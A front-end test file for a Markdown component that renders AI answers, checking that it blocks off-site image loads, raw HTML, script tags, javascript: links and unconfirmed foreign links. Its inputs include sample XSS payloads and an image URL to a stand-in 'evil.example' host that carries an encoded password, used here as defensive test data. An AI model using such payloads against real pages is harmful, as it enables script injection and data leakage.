import { describe, expect, it, vi } from 'vitest';
import { screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { MemoryRouter } from 'react-router';
import { renderWithProviders } from '../../../test/render';
import { AnswerMarkdown } from './AnswerMarkdown';

function renderAnswer(content: string, onCite = vi.fn()) {
  const view = renderWithProviders(
    <MemoryRouter>
      <AnswerMarkdown content={content} onCite={onCite} />
    </MemoryRouter>,
  );
  return { ...view, onCite };
}

describe('AnswerMarkdown', () => {
  it('renders Markdown: headings, lists, tables, code', () => {
    const { container } = renderAnswer(
      '## 小结\n\n- **第一**项\n- 第二项\n\n| 列 | 值 |\n| --- | --- |\n| 甲 | 1 |\n\n`代码`',
    );
    expect(screen.getByRole('heading', { name: '小结' })).toBeTruthy();
    expect(screen.getAllByRole('listitem')).toHaveLength(2);
    expect(container.querySelector('strong')?.textContent).toBe('第一');
    expect(screen.getByRole('table')).toBeTruthy();
    expect(container.querySelector('code')?.textContent).toBe('代码');
  });

  it('does not load an image from another host until it is clicked', async () => {
    const secret = 'https://evil.example/leak.png?d=%E5%AF%86%E7%A0%81';
    const { container } = renderAnswer(`看这里 ![图表](${secret})`);
    expect(container.querySelector('img')).toBeNull();
    const button = screen.getByRole('button', { name: /外部图片：图表/ });
    expect(button.getAttribute('title')).toContain('evil.example');
    await userEvent.click(button);
    const image = container.querySelector('img');
    expect(image?.getAttribute('src')).toBe(secret);
    expect(image?.getAttribute('referrerpolicy')).toBe('no-referrer');
  });

  it('shows images from our own site at once', () => {
    const { container } = renderAnswer('![封面](/api/v3/space/file/f1/download)');
    expect(container.querySelector('img')?.getAttribute('src')).toBe(
      `${window.location.origin}/api/v3/space/file/f1/download`,
    );
  });

  it('drops raw HTML, so no tag in the answer reaches the page', () => {
    const { container } = renderAnswer(
      '前<img src="https://evil.example/x.png" onerror="alert(1)">后<script>alert(2)</script>',
    );
    expect(container.querySelector('img')).toBeNull();
    expect(container.querySelector('script')).toBeNull();
    expect(container.textContent).toContain('前');
  });

  it('makes a foreign link a button that asks before opening; javascript: links are inert', async () => {
    const open = vi.spyOn(window, 'open').mockReturnValue(null);
    const { container } = renderAnswer(
      '[官网](https://other.example/a?b=1) 和 [脚本](javascript:alert(1)) 和 [页面](/space/s1/page/p1)',
    );
    const anchors = Array.from(container.querySelectorAll('a'));
    // only our own page is a real link
    expect(anchors.map((a) => a.getAttribute('href'))).toEqual(['/space/s1/page/p1']);
    expect(container.textContent).toContain('脚本');

    await userEvent.click(screen.getByRole('button', { name: /官网/ }));
    expect(open).not.toHaveBeenCalled();
    const dialog = await screen.findByRole('dialog');
    expect(within(dialog).getByText(/https:\/\/other\.example\/a\?b=1/)).toBeTruthy();
    await userEvent.click(within(dialog).getByRole('button', { name: '打开' }));
    expect(open).toHaveBeenCalledWith(
      'https://other.example/a?b=1',
      '_blank',
      'noopener,noreferrer',
    );
    open.mockRestore();
  });

  it('turns citations into buttons that open the source, but not inside code', async () => {
    const { container, onCite } = renderAnswer('空间放页面 [1]，也放文件 [2]。\n\n`数组[0]`');
    await userEvent.click(screen.getByRole('button', { name: '查看出处 2' }));
    expect(onCite).toHaveBeenCalledWith(2);
    expect(screen.getAllByRole('button', { name: /查看出处/ })).toHaveLength(2);
    expect(container.querySelector('code')?.textContent).toBe('数组[0]');
  });
});
